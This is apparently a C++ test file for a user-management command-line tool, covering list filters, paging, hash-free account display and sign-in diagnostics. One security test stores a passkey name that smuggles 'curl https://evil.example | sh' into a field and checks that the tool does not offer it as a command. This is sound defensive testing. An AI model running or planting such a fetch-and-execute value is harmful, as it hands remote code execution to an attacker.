#include "cli/commands/rows.h"
#include "common/core/questionnaire/questionnaires.h"
#include "tests/catch.h"
#include "tests/cli/installation.h"
#include "tests/testkit/fake_clock.h"
#include "tests/testkit/people.h"
#include "tests/testkit/text.h"

using namespace usher;
using namespace usher::cli;

TEST_CASE("user list: filters by its options", "[user_show]") {
  TestInstallation usher;
  usher.done("user create ada@example.com --name Ada --role admin --verified --generate-password");
  usher.kit.clock().advance(std::chrono::milliseconds(1));
  usher.done("user create bob@example.com --generate-password");
  usher.done("user suspend bob@example.com --yes");
  const auto names = [&](const std::string& options) { return usher.done("user list -o name" + options); };
  for (const auto& [in, out] : std::vector<testkit::InOut>{
           {"", "ada@example.com\nbob@example.com\n"},
           {" --search BOB", "bob@example.com\n"},
           {" --search %", ""},
           {" --role admin", "ada@example.com\n"},
           {" --status suspended", "bob@example.com\n"},
           {" --status active", "ada@example.com\n"},
           {" --verified no", "bob@example.com\n"},
           {" --since 2999-01-01", ""},
       }) {
    CAPTURE(in);
    CHECK(names(in) == out);
  }
}

TEST_CASE("user list: who never signed in, is idle, or left questions unanswered", "[user_show]") {
  TestInstallation usher;
  testkit::sign_up(usher.kit);
  usher.kit.clock().advance(std::chrono::milliseconds(1));
  usher.done("user create bob@example.com --generate-password");
  const auto names = [&](const std::string& options) { return usher.done("user list -o name" + options); };
  CHECK(names(" --never-signed-in") == "bob@example.com\n");
  CHECK(names(" --idle 90d") == "");
  usher.kit.clock().advance(std::chrono::days(91));
  testkit::sign_in(usher.kit);
  CHECK(names(" --idle 90d") == "bob@example.com\n");
  CHECK(names(" --unanswered") == "ada@example.com\nbob@example.com\n");
  const auto step = usher.kit->questionnaires.active().value()->steps.front().id;
  CHECK(names(" --unanswered " + step) == "ada@example.com\nbob@example.com\n");
  usher.kit.run("UPDATE profiles SET completed_at_ms = 1, completed_steps = '[\"" + step + "\"]'");
  CHECK(names(" --unanswered") == "bob@example.com\n");
  CHECK(names(" --unanswered " + step) == "bob@example.com\n");
  CHECK(usher.run("user list --unanswered no_such_step").code == 2);
}

TEST_CASE("user list, show: on a narrow terminal words, the state, and no empty rows", "[user_show]") {
  TestInstallation usher;
  testkit::sign_up(usher.kit, "a.person.with.a.rather.long.address@department.example.com");
  usher.done("user create bob@example.com --generate-password");
  usher.done("user suspend bob@example.com --yes");
  const auto list = usher.run("user list", "", true).out;
  for (const char* text : {"state", "last sign-in", "suspended", "active"}) CHECK(testkit::has(list, text));
  CHECK(testkit::has(usher.done("user list"), "is_active"));
  CHECK_FALSE(testkit::has(usher.run("user show bob@example.com", "", true).out, "last_login_at"));
  CHECK(testkit::has(usher.done("user show bob@example.com"), "last_login_at"));
}

TEST_CASE("user list: pages return all accounts, each once", "[user_show]") {
  TestInstallation usher;
  std::string every_address;
  for (const std::string name : {"a", "b", "c"}) {
    usher.done("user create " + name + "@example.com --generate-password");
    usher.kit.clock().advance(std::chrono::milliseconds(1));
    every_address += name + "@example.com\n";
  }
  std::string seen;
  std::string more;
  for (int pages = 0; pages < 3; ++pages) {
    const Ran page = usher.run("user list --limit 2 -o name" + more);
    REQUIRE(page.code == 0);
    seen += page.out;
    if (page.err.empty()) break;
    const auto at = page.err.find("--cursor ");
    REQUIRE(at != std::string::npos);
    more = " " + page.err.substr(at, page.err.size() - at - 1);
  }
  CHECK(seen == every_address);
}

TEST_CASE("user show: by id and by address alike, with the profile and without a hash", "[user_show][security]") {
  TestInstallation usher;
  const auto grant = testkit::sign_up(usher.kit);
  const std::string shown = usher.done("user show ADA@example.com -o json");
  CHECK(usher.done("user show " + grant.user.id.str() + " -o json") == shown);
  CHECK(*testkit::must(json::parse(shown)).find("profile")->find("experience_level")->string() == "beginner");
  CHECK(usher.run("user show unknown@example.com").code == 3);
  const std::string everything = usher.done("user show ada@example.com --everything -o json");
  for (const auto& text : {shown, everything})
    for (const std::string secret : {"argon2", "token_hash", "password_hash"}) {
      CAPTURE(secret);
      CHECK(text.find(secret) == std::string::npos);
    }
  CHECK(everything.find(grant.session.id.str()) != std::string::npos);
}

TEST_CASE("user why: a name that a user chose is no command", "[user_why][security]") {
  TestInstallation usher;
  const auto id = testkit::sign_up(usher.kit).user.id.str();
  usher.kit.run(
      "INSERT INTO passkeys (id, user_id, credential_id, public_key, sign_count, created_at_ms, rp_id, name) VALUES ('key', '" +
      id + "', 'key', 'k', 0, 0, 'old.example', 'phone; `curl https://evil.example | sh`')");
  const auto rows = testkit::must(json::parse(usher.done("user why ada@example.com -o json")));
  const auto& row = rows.array()->at(0);
  CHECK(*row.find("reason")->string() == "passkey_unknown");
  CHECK(row.find("finding")->string()->find("curl") != std::string::npos);
  CHECK(row.find("fix")->is_null());
  CHECK(row.find("command")->is_null());
}

TEST_CASE("user why: what refuses a sign-in, and the command that mends it", "[user_why]") {
  TestInstallation usher;
  testkit::sign_up(usher.kit);
  CHECK(usher.done("user why ada@example.com -o json").find("Nothing stored blocks this account") != std::string::npos);
  usher.done("user suspend ada@example.com --yes");
  const auto rows = testkit::must(json::parse(usher.done("user why ADA@example.com -o json")));
  const auto& row = rows.array()->at(0);
  CHECK(*row.find("result")->string() == "problem");
  CHECK(*row.find("reason")->string() == "suspended");
  CHECK(*row.find("finding")->string() == "The account is suspended; `usher user activate ada@example.com`");
  CHECK(*row.find("command")->string() == "usher user activate ada@example.com");
  usher.done("user activate ada@example.com");
  CHECK(usher.done("user why ada@example.com").find("suspended") == std::string::npos);
  CHECK(usher.run("user why unknown@example.com").code == 3);
}

TEST_CASE("user why: limits and mail have their own commands", "[user_why]") {
  TestInstallation usher;
  const auto id = testkit::sign_up(usher.kit).user.id.str();
  usher.kit.run("DELETE FROM outbox");
  usher.done("user send-reset ada@example.com");
  usher.kit.run("UPDATE outbox SET failed_at_ms = created_at_ms, next_attempt_at_ms = NULL, last_error = '550 no such user'");
  const auto end = std::to_string(to_ms(usher.kit.clock().now() + std::chrono::minutes(10)));
  usher.kit.run("INSERT INTO rate_limits (rule, subject, count, window_ends_at_ms) VALUES ('code_account', '" + id + "', 1000, " +
                end + ")");
  const auto mail = usher.kit.texts("SELECT id FROM outbox").front();
  const auto commands = usher.done("user why ada@example.com -o csv --fields command");
  CHECK(commands.find("usher limit clear --account=ada@example.com\n") != std::string::npos);
  CHECK(commands.find("usher mail retry " + mail + "\n") != std::string::npos);
  usher.kit.run("UPDATE outbox SET failed_at_ms = NULL");
  CHECK(usher.done("user why ada@example.com -o csv --fields command").find("usher mail show " + mail) != std::string::npos);
}
